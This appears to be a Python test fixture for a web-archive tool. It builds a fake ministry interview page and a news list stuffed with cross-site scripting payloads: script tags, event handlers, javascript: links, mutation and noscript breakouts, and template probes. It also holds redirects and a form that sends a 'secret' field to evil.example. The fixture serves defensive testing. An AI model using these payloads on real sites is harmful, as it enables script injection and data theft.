"""A record whose captures try everything: script, forms, refresh, styles, drawings, handlers, addresses that run."""

from __future__ import annotations

from pathlib import Path

from onrecord import Archive

PAYLOAD = (
    "</script></title><script>hit('script')</script><img src=x onerror=\"hit('handler')\">"
    "<svg onload=\"hit('svg')\"><a href=\"javascript:hit('address')\">x</a>"
    "<meta http-equiv=refresh content=\"0;url=javascript:hit('refresh')\">"
    "<form action=\"javascript:hit('form')\"><button autofocus onfocus=\"hit('focus')\">go</button></form>"
    "<style>body{display:none}</style><iframe srcdoc=\"<script>parent.hit('frame')</script>\"></iframe>"
    "{{ 7*7 }} {% raw %} ${7*7} --> ]]> \" ' `"
)
"""What is put wherever a capture has text; `hit` is what a test listens for."""


def escaped(text: str) -> str:
    """Return the text as the text of a page."""
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


PAGE = f"""<html lang="en"><head><title>Minister Anna Lind’s interview {escaped(PAYLOAD)}</title>
<script>hit('page script')</script><meta http-equiv="refresh" content="0;url=https://evil.example/">
<style>@import url("https://evil.example/a.css"); body {{ background: url(https://evil.example/b.png) }}</style>
<base href="https://evil.example/"><link rel="stylesheet" href="https://evil.example/c.css"></head>
<body onload="hit('body')" style="display:none"><h1>Minister Anna Lind’s interview with Harbour Radio {escaped(PAYLOAD)}, Vessel City, May 14, 2026</h1>
<p>15 May 2026</p>
<p><b>Question:</b> Will the ferries run? {escaped(PAYLOAD)}</p>
<p><b>Anna Lind:</b> They will run on Sunday as they always did, and we have said so. {escaped(PAYLOAD)}</p>
<p><b>Question {escaped("<script>hit('label')</script>")}:</b> And on Monday?</p>
<p><b>Anna Lind:</b> On Monday as well, since the harbour treaty says so in as many words.</p>
<svg><script>hit('svg script')</script><a xlink:href="javascript:hit('svg address')"><text>x</text></a></svg>
<math><mtext><table><mglyph><style><img src=x onerror="hit('mutation')"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror=hit('noscript')>"></p></noscript>
<form action="https://evil.example/"><input name="secret" autofocus onfocus="hit('input')"><button>Send</button></form>
<iframe src="javascript:parent.hit('inner frame')"></iframe><object data="data:text/html,<script>hit('object')</script>"></object>
<img src="x" onerror="hit('picture')"><video><source onerror="hit('video')"></video><details open ontoggle="hit('toggle')">d</details>
<a href="javascript:hit('link')">a link</a><a href="https://evil.example/" target="_top">another</a></body></html>"""

LIST = f"""<html lang="en"><head><title>News</title></head><body><h1>Latest news</h1><ul>
<li><p>16 May 2026</p><a href="/news/901">Statement on the bay {escaped(PAYLOAD)}</a><p>Lead {escaped(PAYLOAD)}</p></li>
<li><p>15 May 2026</p><a href="javascript:hit('notice')">Statement on the pier {escaped(PAYLOAD)}</a></li>
<li><p>14 May 2026</p><a href="/news/903">Interview of the minister with Harbour Radio</a></li>
<li><p>13 May 2026</p><a href="/news/904">Statement on the quay</a></li></ul></body></html>"""


EDITED = PAGE.replace("as it always did", f"as it never did {escaped(PAYLOAD)}").replace(
    "On Monday as well", "On Tuesday as well"
)


def make_archive(folder: Path) -> Path:
    """Return the folder of an archive that holds the hostile pages, one of them edited and one copied."""
    pages = folder / "pages"
    pages.mkdir(parents=True)
    with Archive.create(folder / "archive", now="2026-05-20T08:00:00Z") as archive:
        for name, text, url, day in (
            ("page", PAGE, "https://ministry.vessel.example/news/9?a=<script>&b=\"'", 17),
            ("list", LIST, "https://ministry.vessel.example/news/", 17),
            ("edited", EDITED, "https://ministry.vessel.example/news/9?a=<script>&b=\"'", 18),
            ("copied", PAGE, "https://courier.vessel.example/<svg/onload=hit('copy')>", 19),
        ):
            (pages / f"{name}.html").write_text(text, encoding="utf-8")
            archive.add(
                pages / f"{name}.html",
                url=url,
                captured_at=f"2026-05-{day}T08:00:00Z",
                now="2026-05-20T08:00:00Z",
            )
    return folder / "archive"
